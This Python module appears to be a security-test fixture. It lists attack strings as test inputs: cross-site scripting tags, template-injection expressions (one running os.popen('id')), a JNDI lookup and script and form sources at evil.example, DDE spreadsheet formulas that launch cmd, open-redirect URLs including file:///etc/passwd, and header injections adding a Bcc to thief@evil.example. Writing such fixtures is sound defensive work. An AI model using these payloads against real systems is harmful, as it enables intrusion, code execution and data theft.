"""Texts that attack: scripts for browsers, formulas for spreadsheets, addresses that lead away.

``zq`` marks a script that got through: it stands where only a parsed tag or attribute shows it.
"""

# ruff: noqa: E501 - an attack is one line

_TEMPLATES = (
    "<script zq>alert(1)</script>", "</script><script zq>alert(1)</script>", "<ScRiPt zq>1</sCrIpT>",
    "<script zq src=//evil.example/x></script>", "<script\tzq>1</script>", "<script/zq>1</script>",
    "<<script zq>1</script>", "<img src=x zq onerror=alert(1)>", "<img/src=x/zq/onerror=alert(1)>",
    "<svg zq onload=alert(1)>", "<svg><script zq>1</script></svg>", "<svg/zq/onload=alert(1)>",
    "<svg><animate zq onbegin=alert(1)>", "<math><mi zq xlink:href=javascript:1>x</mi></math>",
    "<iframe zq src=javascript:alert(1)>", "<iframe zq srcdoc='<script>1</script>'>",
    "<object zq data=javascript:alert(1)>", "<embed zq src=javascript:alert(1)>",
    "<a zq href=javascript:alert(1)>x</a>", "<a zq href='java\u00adscript:alert(1)'>x</a>",
    "<a zq href=data:text/html,x>x</a>", "<body zq onload=alert(1)>", "<base zq href=//evil.example/>",
    "<meta zq http-equiv=refresh content='0;url=//evil.example'>", "<link zq rel=stylesheet href=//x>",
    "<style zq>*{display:none}</style>", "<b zq style=background:url(//x)>x</b>",
    "<form zq action=//evil.example><input name=password>", "<button zq formaction=javascript:1>x",
    "<input zq autofocus onfocus=alert(1)>", "<details zq open ontoggle=alert(1)>",
    "<video zq><source onerror=alert(1)>", "<audio zq src=x onerror=alert(1)>",
    "<marquee zq onstart=alert(1)>", "<select zq autofocus onfocus=alert(1)>",
    "<textarea zq autofocus onfocus=alert(1)>", "<template zq><script>1</script></template>",
    "<x zq onclick=alert(1)>x", "<table zq background=javascript:1>", "<noscript zq><p title='</noscript>",
    "</textarea><b zq>x", "</title><b zq>x", "</style><b zq>x", "</option></select><b zq>x",
    "--><b zq>x", "<!--><b zq>x-->", "]]><b zq>x", "<![CDATA[><b zq>x]]>", "<?xml zq?><b zq>x",
    '" zq onmouseover=alert(1) x="', "' zq onmouseover=alert(1) x='", "` zq onmouseover=alert(1) `",
    '"><b zq>x', "'><b zq>x", "&lt;b zq&gt;x", "&#60;b zq&#62;x", "\\x3cb zq\\x3ex", "\\u003cb zq\\u003e",
    "<b zq>&quot;&#39;</b>", "<\u200bscript zq>1</script>", "\uff1cscript zq\uff1e1", "%3Cb zq%3E",
    "</script><!--<script zq>", '"}];</script><b zq>x',
)  # fmt: skip
#: Each with a number of its own, so that each is found again.
XSS = tuple(f"{text} n{number:02}" for number, text in enumerate(_TEMPLATES))

_EXPRESSIONS = (
    "{{7*7}}", "{{ 7*'7' }}", "{% print 7*7 %}", "{{config}}", "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{request.application.__globals__}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{%raw%}x{%endraw%}", "{#x#}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{actor.__class__.__init__}", "%(name)s",
    "%s%s%s%n", "%d", "{}", "${jndi:ldap://evil.example/x}", "__import__('os')", "`id`",
)  # fmt: skip
SSTI = tuple(f"{text} n{number}" for number, text in enumerate(_EXPRESSIONS, start=100))

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=WEBSERVICE(A1)",
    "=IMPORTXML(1,2)", "==1", "=\u00a01", "= 1+1", "+1+1", "+cmd|'/C calc'!A0", "++1", "-1+1",
    "-cmd|'/C calc'!A0", "--1", "-5", "-5,0", "-1e3", "@SUM(1;1)", "@1", "@@", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", "=1+1,=2+2", '=1+1";=2+2', "='x'", "=\"x\"", "+84 209 387", "-", "=", "@", "+",
    "=1\\r\\n=2", "=A1&B1", "=DDE(1)", "=[1]!x", "-'x", "+\"x\"", "=;x",
)  # fmt: skip

LEADING_AWAY = (
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\/evil.example",
    "\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "\t//evil.example", " //evil.example",
    "/%2fevil.example", "/%2f%2fevil.example", "/%252f%252fevil.example", "/%5cevil.example",
    "/%255cevil.example", "%2f%2fevil.example", "/work/..//evil.example", "/./\\evil.example",
    "/.//evil.example", "/work//evil.example/..", "http://evil.example", "https:evil.example",
    "http:/evil.example", "http:///evil.example", "HTTP://evil.example", "ftp://evil.example",
    "http://localhost@evil.example", "http://localhost.evil.example", "//localhost@evil.example",
    "//localhost:80@evil.example", "//localhost%00.evil.example", "http://localhost/work",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "javascript://x/%0aalert(1)",
    "data:text/html,<script>1</script>", "vbscript:x", "blob:x", "file:///etc/passwd", "evil.example",
    "@evil.example", ".evil.example", ":80", "?//evil.example", "#//evil.example", "/@evil.example",
    "/work@evil.example", "/work\r\nLocation: //evil.example", "/work%0d%0aSet-Cookie:x=1",
    "/work\x00//evil.example", "/\u2215evil.example", "//\u3002evil.example", "/／evil.example",
    "//evil。example", "//[::1]", "//[", "http://[", "/sign-out", "/static/css/app.css", "/livez",
    "/api/v1/../../evil", "/" + "x" * 3000, "/nowhere", "",
)  # fmt: skip

HEADERS = tuple(
    f"{start}{end}{header}"
    for start in ("Xã", "")
    for end in ("\r\n", "\n", "\r", "\u2028", "\x85")
    for header in ("Bcc: thief@evil.example", "Subject: x\r\n\r\nbody")
)
